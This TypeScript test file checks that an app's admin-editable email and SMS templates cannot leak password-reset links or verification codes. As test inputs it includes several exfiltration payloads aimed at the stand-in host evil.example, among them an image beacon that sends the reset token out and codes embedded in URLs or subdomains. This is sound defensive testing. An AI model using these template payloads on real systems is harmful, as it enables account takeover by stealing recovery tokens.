import assert from 'node:assert/strict';
import { it } from 'node:test';
import { saveTemplate } from '../../../src/domain/messaging/templates/templates.queries.js';
import type { MessageKind, TemplateText } from '../../../src/platform/store/tables.js';
import { bothOn } from '../../kit/addresses.js';
import { reset } from '../../kit/resets.js';
import { changesNothing } from '../../kit/stored.js';
import { newEmail, newName, newPhone, refuses, type TestApp } from '../../kit/test-app.js';
import { stories } from '../../kit/world.js';

/** Sends the token of a reset to a stranger when the mail is opened. */
const beacon = `<p>{{ link }}</p><img src="https://evil.example/?t={{ link | split: '#' | last }}">`;

stories('An admin of an app who wants the account of a user', world => {
  it('O2 D9 cannot save, preview or test a template that sends a code or link elsewhere', async () => {
    const app = await world.app(bothOn);
    const email = newEmail();
    await app.registerProven({ email });
    const mail = { kind: 'PASSWORD_RESET_EMAIL', locale: 'en', subject: 'Hi', text: '{{ link }}' };
    const sms = { kind: 'PASSWORD_RESET_SMS', locale: 'en' };
    const cases: [Record<string, unknown>, field: string][] = [
      [{ ...mail, html: beacon }, 'html'],
      [{ ...mail, html: '<p>{{ link }}</p><img src="https://evil.example/{{ link }}">' }, 'html'],
      [{ ...mail, html: '<p>{{ link }}</p><a href="https://evil.example/?t={{ link }}">Reset</a>' }, 'html'],
      [{ ...mail, text: 'https://evil.example/?t={{ link }}' }, 'text'],
      [{ ...mail, text: "{{ link | split: '#' | last }} {{ link }}" }, 'text'],
      [{ ...mail, subject: '{{ link }}' }, 'subject'],
      [{ ...sms, text: 'https://evil.example/{{ code }}' }, 'text'],
      [{ ...sms, text: '{{ code }}.evil.example' }, 'text'],
      [{ ...sms, text: '{{ code }}{% if code < "500000" %} low{% endif %}' }, 'text'],
    ];
    await changesNothing(world, async () => {
      for (const [input, field] of cases) {
        const { problems } = await app.admin('previewTemplate', { input });
        assert.ok(problems.length > 0 && problems[0].startsWith(`${field}: `), JSON.stringify({ input, problems }));
        await refuses('BAD_USER_INPUT', () => app.admin('updateTemplate', { input }), { field });
        if (input.kind === mail.kind) {
          await refuses('BAD_USER_INPUT', () => app.admin('sendTestMessage', { input, to: email }), { field });
        }
      }
    });
  });

  it('D9 D6 gains nothing by a template from before that rule: the default is sent instead, and no message is lost', async () => {
    const app = await world.app(bothOn);
    const [email, phone] = [newEmail(), newPhone()];
    await stored(app, 'EMAIL_VERIFICATION', { subject: null, text: '{{ link }}', html: beacon });
    await stored(app, 'PHONE_VERIFICATION', { subject: null, text: 'https://evil.example/{{ code }}', html: null });
    await stored(app, 'PASSWORD_RESET_EMAIL', { subject: '{{ link }}', text: '{{ link }}', html: null });
    const user = await app.register({ username: newName(), email, phone });
    const [mail, sms] = [await app.lastMessageTo(email), await app.lastMessageTo(phone)];
    assert.match(mail.subject ?? '', /^Confirm your email address for/);
    assert.match(mail.html ?? '', /href="[^"]*\/verify\?v=[\w-]{36}#[\w-]{64}"/);
    assert.match(sms.text, /^\d{6} is your /);
    for (const part of [mail.text, mail.html, sms.text]) assert.ok(!part?.includes('evil'));
    await user.provePhone(phone);
    await user.proveEmail(email);

    await app.do('requestPasswordReset', { identifier: email });
    assert.equal((await app.lastMessageTo(email)).subject, 'Reset your Sample password');
    await reset(app, { token: await app.tokenTo(email) }, 'a better horse battery');
  });

  it('V3 D6 cannot break verification by such a template: the code of the default text is accepted', async () => {
    const app = await world.app(bothOn);
    const email = newEmail();
    await stored(app, 'EMAIL_VERIFICATION', {
      subject: null,
      text: '{{ code }}',
      html: '<img src="https://evil.example/">{{ code }}',
    });
    const user = await app.register({ username: newName(), email });
    const mail = await app.lastMessageTo(email);
    assert.ok(!mail.html?.includes('evil') && mail.html?.includes(mail.code ?? 'none'));
    assert.equal((await user.do('verifyEmail', { code: mail.code })).verified, true);
  });
});

async function stored(app: TestApp, kind: MessageKind, template: TemplateText): Promise<void> {
  const { store, now } = app.world.server.deps;
  await store.transaction(tx => saveTemplate(tx, { appId: app.id, kind, locale: 'en' }, template, now()));
}
